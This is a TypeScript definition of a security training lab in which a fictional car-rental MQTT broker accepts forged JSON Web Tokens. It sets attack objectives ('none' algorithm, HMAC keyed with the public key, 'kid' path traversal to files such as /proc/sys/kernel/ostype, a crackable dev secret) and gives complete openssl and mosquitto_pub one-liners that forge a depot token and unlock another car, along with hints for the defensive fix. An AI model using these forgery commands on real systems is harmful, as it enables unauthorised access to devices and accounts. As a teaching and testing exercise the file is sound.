import {
  answer,
  attackObjective,
  count,
  defenceObjective,
  defineLab,
  happened,
  mqtt5,
  mqtt311,
} from '../../src/lab-kit/index.ts';

const issuer = 'kestrel';
const aud = 'mqtt.kestrel.example';
const day = 86_400;

/** Every way to write `none`: who compares the word has to compare all of them. */
const nones = [...'none'].reduce(
  (words, letter) => words.flatMap((word) => [word + letter, word + letter.toUpperCase()]),
  [''],
);

const believed = { actor: 'attacker', believed: true } as const;

export default defineLab({
  id: 'jwt-forge',
  number: 10,
  chapter: '04-jwt-hooks-and-more',
  title: 'Sign here, please',
  summary: 'A broker lets the token choose how it is verified, so that anybody can write one that opens every car.',
  story:
    'Kestrel rents out cars. Cars, depot and tenants’ phones connect with a JSON Web Token in the password field, and the claim “role” says what they may do: ' +
    'only a depot may write to fleet/+/unlock. You have rented car-7 and hold a token of your own, with the role “renter”. ' +
    'The verifier was put together from four examples found on the web.',
  minutes: 30,
  weakness: {
    cwe: 'CWE-347',
    statement: 'The verifier lets the token choose algorithm and key, and trusts keys that others have.',
  },
  specs: [mqtt311('3.1.3.5'), mqtt5('3.1.3.6'), mqtt311('5.4.1'), mqtt5('5.4.1'), mqtt311('3.2.2.3')],
  protocolVersions: [4],
  listeners: [
    { name: 'ws', transport: 'ws' },
    { name: 'tcp', transport: 'tcp' },
  ],

  secrets: [
    {
      id: 'kestrel-2026a',
      kind: 'publicKey',
      given: true,
      meaning: 'public key of the issuer, as /jwks.json tells it',
    },
    { id: 'bench-secret', kind: 'dictionary', meaning: 'secret of the issuer “dev”' },
    { id: 'fob-secret', kind: 'hex', length: 64, meaning: 'secret in the flash memory of every car' },
  ],
  tokenKeys: [
    { id: 'kestrel-2026a', algorithm: 'ES256' },
    { id: 'kestrel-2026b', algorithm: 'ES256' },
    { id: 'kestrel-fob', algorithm: 'HS256', secret: 'fob-secret' },
    { id: 'harrier-2026', algorithm: 'ES256' },
    { id: 'bench', algorithm: 'HS256', secret: 'bench-secret' },
  ],
  tokens: [
    {
      id: 'depot',
      key: 'kestrel-2026a',
      claims: { iss: issuer, sub: 'depot', aud, role: 'depot' },
      lifetimeSeconds: day,
      meaning: 'token of the depot',
    },
    {
      id: 'car-7',
      key: 'kestrel-2026a',
      claims: { iss: issuer, sub: 'car-7', aud, role: 'car' },
      lifetimeSeconds: day,
      meaning: 'token of car-7',
    },
    {
      id: 'car-12',
      // Half of the fleet has tokens by the next key already.
      key: 'kestrel-2026b',
      claims: { iss: issuer, sub: 'car-12', aud, role: 'car' },
      lifetimeSeconds: day,
      meaning: 'token of car-12',
    },
    {
      id: 'my-token',
      key: 'kestrel-2026a',
      claims: { iss: issuer, sub: 'renter-7', aud, role: 'renter' },
      lifetimeSeconds: day,
      given: true,
      meaning: 'your own token, as the renter of car-7',
    },
    {
      id: 'bench-token',
      key: 'bench',
      claims: { iss: 'dev', sub: 'bench-3', aud, role: 'renter' },
      lifetimeSeconds: day,
      given: true,
      meaning: 'token of a test bench, from a post in the developers’ forum',
    },
  ],
  tokenFiles: {
    '../public/robots.txt': 'User-agent: *\nDisallow: /\n',
    '../public/.well-known/security.txt': 'Contact: mailto:security@kestrel.example\nExpires: 2027-01-01T00:00:00Z\n',
    '/proc/sys/kernel/ostype': 'Linux\n',
  },
  services: [{ kind: 'jwks', name: 'keys', keys: ['kestrel-2026a', 'kestrel-2026b'], exposed: true }],

  devices: [
    {
      id: 'depot',
      actor: 'operator:depot',
      kind: 'phone',
      label: 'Depot',
      clientId: 'depot',
      userName: 'depot',
      topics: { 'watch-cars': 'fleet/+/state', cmd: 'fleet/car-12/unlock' },
    },
    {
      id: 'car-7',
      actor: 'device:car-7',
      kind: 'car',
      label: 'car-7, yours',
      clientId: 'car-7',
      userName: 'car-7',
      topics: { state: 'fleet/car-7/state', cmd: 'fleet/car-7/unlock' },
    },
    {
      id: 'car-12',
      actor: 'device:car-12',
      kind: 'car',
      label: 'car-12',
      clientId: 'car-12',
      userName: 'car-12',
      topics: { state: 'fleet/car-12/state', cmd: 'fleet/car-12/unlock' },
    },
  ],
  topology: {
    nodes: [
      { id: 'broker', x: 50, y: 30 },
      { id: 'attacker', x: 50, y: 54 },
      { id: 'depot', x: 50, y: 6 },
      { id: 'car-7', x: 14, y: 30 },
      { id: 'car-12', x: 86, y: 30 },
    ],
  },

  objectives: [
    attackObjective(
      'A1',
      'Have a token believed that says it is not signed.',
      count(happened('token.checked', { ...believed, algorithm: { oneOf: nones } }), 1),
    ),
    attackObjective(
      'A2',
      'Have an HS256 token of “kestrel” believed that you signed with the text of its public key.',
      count(
        happened('token.checked', {
          ...believed,
          algorithm: 'HS256',
          issuer,
          keyId: { oneOf: [null, 'kestrel-2026a', 'kestrel-2026b'] },
        }),
        1,
      ),
    ),
    attackObjective(
      'A3',
      'Have a token believed whose “kid” leads the broker to a file that you know.',
      count(
        happened('token.checked', {
          ...believed,
          keyId: {
            oneOf: ['../public/robots.txt', '../public/.well-known/security.txt', '/proc/sys/kernel/ostype'],
          },
        }),
        1,
      ),
    ),
    attackObjective('A4', 'Name the secret with which the issuer “dev” signs.', answer('bench-secret')),
    attackObjective(
      'A5',
      'Have a token of “dev” believed that it never issued.',
      count(happened('token.checked', { ...believed, issuer: 'dev', subject: { not: 'bench-3' } }), 1),
    ),
    attackObjective(
      'A6',
      'Unlock a car that is not yours.',
      count(
        happened('device.changed', {
          deviceId: 'car-12',
          property: 'doors',
          from: 'locked',
          to: 'unlocked',
          causeActor: 'attacker',
        }),
        1,
      ),
    ),
    defenceObjective('D1', 'Believe tokens that Kestrel signed, by either of its keys, and no others.'),
  ],

  hints: [
    'Who chooses the algorithm in your verifier, and who the key? Decode the first part of your token: whatever stands there is written by whoever sends it.',
    'For the attack: copy your token’s claims, make the role “depot”, and sign with something the verifier will take for a key: nothing, the public key’s text, robots.txt, a word of lab.words. For the defence: the verifier must know, for each issuer, its algorithms and its keys, and nobody else may have a key that signs.',
    'auth.token.vulnerable: []. One issuer, “kestrel”, with algorithms ["ES256"] and keys { "provisioned": ["kestrel-2026a", "kestrel-2026b"] }: both, since a rotation is under way. The issuer “dev”, the secret kestrel-fob and the key of Harrier have to go. Leave groupsClaim and the rules as they are.',
  ],

  ownTools: [
    {
      tool: 'curl',
      purpose: 'Fetch the public keys, as any verifier does',
      command: 'curl -s http://{{host}}:{{port:keys}}/jwks.json',
    },
    {
      tool: 'mosquitto_sub',
      purpose: 'Sign in with your own token and see your car',
      command:
        "mosquitto_sub -h {{host}} -p {{port:tcp}} -i renter-7 -u renter-7 -P '{{secret:my-token}}' -t fleet/car-7/state -v",
    },
    {
      tool: 'openssl',
      purpose: 'Make a token without a signature, and unlock a car with it',
      command:
        "b64() { openssl base64 -A | tr '+/' '-_' | tr -d '='; }; NOW=$(date +%s); " +
        'JWT="$(printf \'{"alg":"none"}\' | b64).$(printf \'{"iss":"kestrel","aud":"mqtt.kestrel.example","sub":"depot-2","role":"depot","iat":%d,"exp":%d}\' $NOW $((NOW+600)) | b64)."; ' +
        'mosquitto_pub -h {{host}} -p {{port:tcp}} -i depot-2 -u depot-2 -P "$JWT" -t fleet/car-12/unlock -m UNLOCK',
    },
    {
      tool: 'openssl',
      purpose: 'The same, signed with the text of the public key',
      command:
        "b64() { openssl base64 -A | tr '+/' '-_' | tr -d '='; }; NOW=$(date +%s); KEY='{{secret:kestrel-2026a}}'; " +
        'BODY="$(printf \'{"alg":"HS256"}\' | b64).$(printf \'{"iss":"kestrel","aud":"mqtt.kestrel.example","sub":"depot-2","role":"depot","iat":%d,"exp":%d}\' $NOW $((NOW+600)) | b64)"; ' +
        'HEX=$(printf %s "$KEY" | od -An -v -tx1 | tr -d \' \\n\'); ' +
        'MAC=$(printf %s "$BODY" | openssl dgst -sha256 -mac hmac -macopt hexkey:$HEX -binary | b64); ' +
        'mosquitto_pub -h {{host}} -p {{port:tcp}} -i depot-2 -u depot-2 -P "$BODY.$MAC" -t fleet/car-12/unlock -m UNLOCK',
    },
  ],
  defaultTopics: ['fleet/car-7/state', 'fleet/car-12/state', 'fleet/car-7/unlock', 'fleet/car-12/unlock'],
});
